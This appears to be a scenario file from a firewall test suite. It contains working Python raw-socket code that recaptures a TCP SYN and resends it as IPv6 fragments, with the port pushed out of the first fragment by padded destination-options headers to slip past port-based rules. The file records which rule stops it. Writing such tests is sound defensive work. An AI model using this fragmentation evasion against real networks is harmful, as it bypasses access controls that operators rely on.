"""Whoever is in a container on the workstation's network card asks by fragments, of which the first has no port."""

from attacks.clients import PORTS
from scenes import ADDRESS6

RECIPE = "succeeds"
STOPPED_BY = "firewall: at the network card a first fragment that does not show its port does not pass"
BACKENDS = ("nftables", "iptables")
# The kernel's own packet that asks for a connection is sent once more, behind two headers (destination options), the
# second of which is in the second fragment with all that follows. Linux takes no first one of less than 1280 bytes.
REACH = """
sock = socket.socket(socket.AF_INET6)
sock.settimeout(2)
place = sys.argv[1], int(sys.argv[2])
with socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(3)) as tap:
    sock.setblocking(False)
    sock.connect_ex(place)
    asking = b""
    while asking[6:7] != b"\\6" or asking[42:44] != struct.pack("!H", place[1]):
        asking = tap.recv(2048)
ends, asking = asking[8:40], asking[40:]
summed = ends + struct.pack("!II", len(asking), 6) + asking[:16] + bytes(2) + asking[18:]
total = sum(struct.unpack(f"!{len(summed) // 2}H", summed))
while total >> 16:
    total = (total & 0xFFFF) + (total >> 16)
asking = asking[:16] + struct.pack("!H", total ^ 0xFFFF) + asking[18:]
long = bytes([60, 153, *(bytes([30, 255]) + bytes(255)) * 4, 30, 200, *bytes(200)])
with socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_RAW) as out:
    for offset, part in ((1, long), (len(long), bytes([6, 0, 1, 4, *bytes(4)]) + asking)):
        part = struct.pack("!BBHI", 60, 0, offset, 20002) + part
        out.sendto(struct.pack("!IHBB", 6 << 28, len(part), 44, 64) + ends + part, (place[0], 0))
print(ask(secured(sock)))
"""


def site(client):
    client.lend_device("link", "eth0", "name", "eth0", "type", "macvlan", "mode", "bridge")
    client.guest().run(["ip", "address", "add", "fd00:2::50/64", "dev", "eth0", "nodad"])
    client.guest().run(["ip", "link", "set", "eth0", "up"])


def attack(client):
    return client.python(REACH, ADDRESS6, PORTS["leaptest"], machine=client.guest())
